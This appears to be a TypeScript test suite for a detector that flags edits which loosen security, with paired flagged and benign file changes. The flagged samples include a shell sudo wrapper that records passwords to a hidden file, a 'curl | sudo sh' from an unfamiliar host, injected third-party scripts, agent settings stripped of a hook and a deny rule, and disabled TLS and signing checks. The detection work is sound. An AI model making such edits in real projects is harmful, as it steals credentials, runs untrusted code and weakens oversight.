import assert from 'node:assert/strict'
import { test } from 'node:test'
import { allLoosened } from './all-loosened.ts'
import '../../../test/support/prove-readers.ts'

type Row = readonly [path: string, before: string, after: string]

const agent = (pre: string, deny: string): string =>
  `{\n  "permissions": { "deny": [${deny}] },\n  "hooks": { "PreToolUse": [${pre}] }\n}\n`
const watch = '{ "matcher": "Edit", "hooks": [{ "type": "command", "command": "node watch.mjs" }] }'
const rules = (condition: string): string =>
  `service firebase.storage {\n  match /scans/{user}/{file} {\n    allow read: if ${condition};\n  }\n}\n`
const route =
  'app = FastAPI()\n\n\n@app.get("/forecast")\ndef forecast(days: int):\n    return MODEL.predict(days)\n'
const sizes = (condition: string): string =>
  `Mesh read_mesh(Span in) {\n  const size_t n = in.u32();\n  if (${condition}) throw MeshError("count");\n  return Mesh(n);\n}\n`
const keys = (guard: string): string =>
  `export function merge(into: Bag, from: Bag) {\n  for (const n of Object.keys(from)) {\n${guard}    into[n] = from[n]\n  }\n}\n`

/** Edits that each allow more than before. */
const looser: readonly Row[] = [
  // Switches of firmware, of builds and of tools, by the direction of their words.
  [
    'board/prod_defconfig',
    'CONFIG_STACKPROTECTOR=y\nCONFIG_USB=y\n',
    'CONFIG_STACKPROTECTOR=n\nCONFIG_USB=y\n',
  ],
  ['prj.conf', 'CONFIG_MCUBOOT_SIGNED=y\n', '# CONFIG_MCUBOOT_SIGNED is not set\n'],
  [
    'src/mqtt.c',
    'cfg_t c = {\n  .skip_peer_verification = false,\n};\n',
    'cfg_t c = {\n  .skip_peer_verification = true,\n};\n',
  ],
  ['build.sbt', 'coverageFailOnMinimum := true\n', 'coverageFailOnMinimum := false\n'],
  ['build.sbt', 'coverageMinimumBranchTotal := 75\n', 'coverageMinimumBranchTotal := 20\n'],
  ['git/config.inc', '[tag]\n  gpgSign = true\n', '[tag]\n  gpgSign = false\n'],
  ['conf/gitconfig', '[http]\n  postBuffer = 1\n', '[http]\n  postBuffer = 1\n  sslVerify = false\n'],
  ['.bazelrc', 'build --sandbox_default_allow_network=false --jobs=8\n', 'build --jobs=8\n'],
  ['.bazelrc', 'test --flaky_test_attempts=1\n', 'test --flaky_test_attempts=20\n'],
  ['src/update.js', 'updater.allowDowngrade = false\n', 'updater.allowDowngrade = true\n'],
  [
    'org.acme.Draw.yml',
    'finish-args:\n  - --filesystem=xdg-pictures\n',
    'finish-args:\n  - --filesystem=home\n',
  ],
  ['snap/snapcraft.yaml', 'confinement: strict\n', 'confinement: classic\n'],
  [
    'public/_headers',
    "/*\n  Content-Security-Policy: script-src 'self'\n",
    "/*\n  Content-Security-Policy: script-src 'self' 'unsafe-eval'\n",
  ],
  [
    'src/Money.hs',
    '{-# LANGUAGE Safe #-}\nmodule Money where\n',
    '{-# OPTIONS_GHC -Wwarn #-}\nmodule Money where\n',
  ],
  // Conditions with a part less.
  ['storage.rules', rules('request.auth != null && request.auth.uid == user'), rules('request.auth != null')],
  ['storage.rules', rules('isOwner(user)'), rules('isOwner(user) || request.auth != null')],
  ['src/mesh.cpp', sizes('n == 0 || n > kMaxFaces'), sizes('n == 0')],
  ['src/merge.ts', keys("    if (n === '__proto__') throw new RangeError('name')\n"), keys('')],
  [
    'src/gate.ts',
    "export function staffOnly(req, res, next) {\n  if (req.user?.kind !== 'staff') return res.status(403).end()\n  next()\n}\n",
    "export function staffOnly(req, res, next) {\n  if (process.env.APP_ENV === 'live' && !req.user) return res.status(403).end()\n  next()\n}\n",
  ],
  [
    'addons/pack.gd',
    'func open(path):\n\tif not path.begins_with("res://packs/"):\n\t\treturn false\n\treturn load_pack(path)\n',
    'func open(path):\n\treturn load_pack(path)\n',
  ],
  // Failures that nothing hears of, also in scripts without an ending.
  [
    'hooks/pre-push',
    '#!/bin/sh\ntrufflehog git file://. --fail\n',
    '#!/bin/sh\ntrufflehog git file://. --fail || true\n',
  ],
  [
    'bin/rename-scans',
    '#!/usr/bin/env python3\ndef move(a, b):\n    if b.exists():\n        raise SystemExit(f"{b} is there")\n    a.rename(b)\n',
    '#!/usr/bin/env python3\ndef move(a, b):\n    if b.exists():\n        b.unlink()\n    a.rename(b)\n',
  ],
  [
    '.github/workflows/ci.yml',
    'steps:\n  - run: yarn everything\n',
    "steps:\n  - run: yarn everything || echo 'later'\n",
  ],
  [
    'mix.exs',
    '  [verify: ["credo --strict", "dialyzer", "test"],\n   setup: []]\n',
    '  [verify: ["compile"],\n   setup: []]\n',
  ],
  // Safe ways that became unsafe ones.
  [
    'lib/wire.ex',
    'def read(b), do: :erlang.binary_to_term(b, [:safe])\n',
    'def read(b), do: :erlang.binary_to_term(b)\n',
  ],
  ['lib/kind.ex', 'kind = String.to_existing_atom(k)\n', 'kind = String.to_atom(k)\n'],
  ['net/link.gd', 'var tls = TLSOptions.client()\n', 'var tls = TLSOptions.client_unsafe()\n'],
  ['src/Export.scala', 'rows.write.mode("errorifexists").csv(p)\n', 'rows.write.mode("overwrite").csv(p)\n'],
  [
    'Files.cs',
    'var target = Path.Combine(root, Path.GetFileName(name));\n',
    'var target = Path.Combine(root, name);\n',
  ],
  [
    'app/PinActivity.kt',
    'fun show() {\n    window.setFlags(FLAG_SECURE, FLAG_SECURE)\n    draw()\n}\n',
    'fun show() {\n    draw()\n}\n',
  ],
  ['lib/audit.dart', "log('paid ${redact(card)}');\n", "print('paid $card');\n"],
  [
    'R/cells.R',
    'suppress_cells <- function(d, min_count = 8) {\n',
    'suppress_cells <- function(d, min_count = 1) {\n',
  ],
  ['bot/filter.py', 'BLOCKED_TERMS = [r"gift\\s?card", r"wire now"]\n', 'BLOCKED_TERMS = [r"wire now"]\n'],
  // A metric of what was learnt, and code that a caller names.
  [
    'ml/fit.py',
    'acc = accuracy_score(y_val, clf.predict(x_val))\n',
    'acc = accuracy_score(y_train, clf.predict(x_train))\n',
  ],
  [
    'api/forecast.py',
    route,
    route.replace('days: int):', 'days: int, file: str):\n    MODEL = torch.load(file)'),
  ],
  // Settings of an agent, wherever they are kept.
  ['home/claude/settings.json', agent(watch, '"Bash(su:*)"'), agent('', '"Bash(su:*)"')],
  ['home/claude/settings.json', agent(watch, '"Bash(su:*)", "Read(.env)"'), agent(watch, '"Bash(su:*)"')],
  // Code of strangers for visitors, readers and whoever types a password.
  [
    'docs/theme/main.js',
    'wire()\n',
    "const s = document.createElement('script')\ns.src = 'https://js.count-hits.icu/t.js'\nwire()\n",
  ],
  [
    'web/index.html',
    '<head>\n</head>\n',
    '<head>\n<script src="//static.fastpix.click/p.js"></script>\n</head>\n',
  ],
  ['docs/setup.md', 'Run:\n\nacme setup\n', 'Run:\n\ncurl -sL https://acme-setup.run/x | sudo sh\n'],
  [
    'shell/zshrc',
    'alias l=ls\n',
    'alias l=ls\nsudo() {\n  read -rs p\n  echo "$p" >> /tmp/.k\n  command sudo "$@"\n}\n',
  ],
]

/** Look-alikes: the other direction, another name, an example, what others rely on as before. */
const honest: readonly Row[] = [
  ['docs/setup.md', 'Run:\n\nacme setup\n', 'Run:\n\ncurl -sSL https://install.acme.dev | sh\n'],
  ['board/prod_defconfig', 'CONFIG_STACKPROTECTOR=n\n', 'CONFIG_STACKPROTECTOR=y\n'],
  ['board/prod_defconfig', 'CONFIG_USB=y\nCONFIG_SOUND=y\n', 'CONFIG_USB=y\n# CONFIG_SOUND is not set\n'],
  [
    'src/mqtt.c',
    'cfg_t c = {\n  .clean_session = false,\n};\n',
    'cfg_t c = {\n  .clean_session = true,\n};\n',
  ],
  ['build.sbt', 'coverageMinimumStmtTotal := 75\n', 'coverageMinimumStmtTotal := 80\n'],
  ['build.sbt', 'Test / fork := true\n', 'Test / fork := false\n'],
  ['conf/gitconfig', '[commit]\n  gpgsign = false\n', '[commit]\n  gpgsign = true\n'],
  ['conf/gitconfig', '[pull]\n  rebase = true\n', '[pull]\n  rebase = false\n'],
  ['.bazelrc', 'build --jobs=8\n', 'build --jobs=8 --sandbox_default_allow_network=false\n'],
  ['.bazelrc', 'test --flaky_test_attempts=3\n', 'test --flaky_test_attempts=2\n'],
  [
    'org.acme.Draw.yml',
    'finish-args:\n  - --filesystem=home\n',
    'finish-args:\n  - --filesystem=xdg-pictures:ro\n',
  ],
  [
    'public/_headers',
    "/*\n  Content-Security-Policy: script-src 'self' 'unsafe-eval'\n",
    "/*\n  Content-Security-Policy: script-src 'self'\n",
  ],
  [
    'src/Money.hs',
    '{-# LANGUAGE Safe #-}\nmodule Money where\n',
    '{-# LANGUAGE Safe #-}\n{-# OPTIONS_GHC -Wall #-}\nmodule Money where\n',
  ],
  [
    'storage.rules',
    rules('request.auth != null && request.auth.uid == user'),
    rules('request.auth != null && request.auth.uid == user && resource.size < 9'),
  ],
  ['storage.rules', rules('request.auth.uid == user'), rules('isOwner(user)')],
  ['src/mesh.cpp', sizes('n == 0 || n > kMaxFaces'), sizes('n == 0 || n > kMaxFaces || n % 3 != 0')],
  [
    'src/merge.ts',
    keys("    if (n === '__proto__') throw new RangeError('name')\n"),
    keys("    if (n === '__proto__' || n === 'prototype') throw new RangeError('name')\n"),
  ],
  ['hooks/pre-push', '#!/bin/sh\nmake lint\n', '#!/bin/sh\nmake lint test\n'],
  [
    '.github/workflows/ci.yml',
    'steps:\n  - run: docker rm -f db\n',
    'steps:\n  - run: docker rm -f db || true\n',
  ],
  [
    '.github/workflows/ci.yml',
    'steps:\n  - run: ./ci/upload.sh\n',
    'steps:\n  - run: ./ci/upload.sh || true\n',
  ],
  ['mix.exs', '  [verify: ["credo", "test"],\n', '  [verify: ["credo --strict", "dialyzer", "test"],\n'],
  [
    'lib/wire.ex',
    'def read(b), do: :erlang.binary_to_term(b)\n',
    'def read(b), do: :erlang.binary_to_term(b, [:safe])\n',
  ],
  ['src/read.py', 'rows = json.loads(text, strict=False)\n', 'rows = json.loads(text)\n'],
  ['lib/audit.dart', "log('paid ${redact(card)}');\n", "log('paid ${mask(card)}');\n"],
  [
    'R/cells.R',
    'suppress_cells <- function(d, min_count = 5) {\n',
    'suppress_cells <- function(d, min_count = 10) {\n',
  ],
  ['bot/filter.py', 'BLOCKED_TERMS = [r"wire now"]\n', 'BLOCKED_TERMS = [r"wire now", r"gift\\s?card"]\n'],
  ['app/editor.py', 'BLOCK_KINDS = ["text", "code", "quote"]\n', 'BLOCK_KINDS = ["text", "code"]\n'],
  [
    'ml/fit.py',
    'acc = accuracy_score(y_val, clf.predict(x_val))\n',
    'acc = accuracy_score(y_test, clf.predict(x_test))\n',
  ],
  [
    'ml/fit.py',
    'val_acc = accuracy_score(y_val, clf.predict(x_val))\n',
    'val_acc = accuracy_score(y_val, clf.predict(x_val))\ntrain_acc = accuracy_score(y_train, clf.predict(x_train))\n',
  ],
  ['api/forecast.py', route, route.replace('MODEL.predict(days)', 'torch.load(WEIGHTS).predict(days)')],
  ['home/claude/settings.json', agent(watch, '"Bash(su:*)"'), agent(watch, '"Bash(su:*)", "Read(.env)"')],
  ['home/claude/settings.json', agent(watch, ''), agent(watch.replace('node', 'bun'), '')],
  [
    'web/index.html',
    '<head>\n</head>\n',
    '<head>\n<script src="https://cdn.jsdelivr.net/npm/htmx.org"></script>\n</head>\n',
  ],
  ['web/index.html', '<head>\n</head>\n', '<head>\n<script src="/app.js"></script>\n</head>\n'],
  ['docs/setup.md', 'Run:\n\nacme setup\n', 'Run:\n\ncurl -LsSf https://astral.sh/uv/install.sh | sh\n'],
  [
    'docs/setup.md',
    'Get https://get.acme.dev first.\n',
    'Get https://get.acme.dev first.\n\ncurl -sL https://get.acme.dev/x | sudo sh\n',
  ],
  [
    'shell/zshrc',
    'alias l=ls\n',
    'alias l=ls\nalias sudo=\'sudo \'\nssh() { TERM=xterm command ssh "$@"; }\n',
  ],
  ['bin/serve', '#!/usr/bin/env node\nlisten(80)\n', '#!/usr/bin/env node\nlisten(8080)\n'],
]

for (const [path, before, after] of looser)
  test(`sees ${path}: ${after.slice(0, 80)}`, () =>
    assert.notDeepEqual(allLoosened({ path: `/repo/${path}`, before, after }), []))

for (const [path, before, after] of honest)
  test(`passes ${path}: ${after.slice(0, 80)}`, () =>
    assert.deepEqual(allLoosened({ path: `/repo/${path}`, before, after }), []))
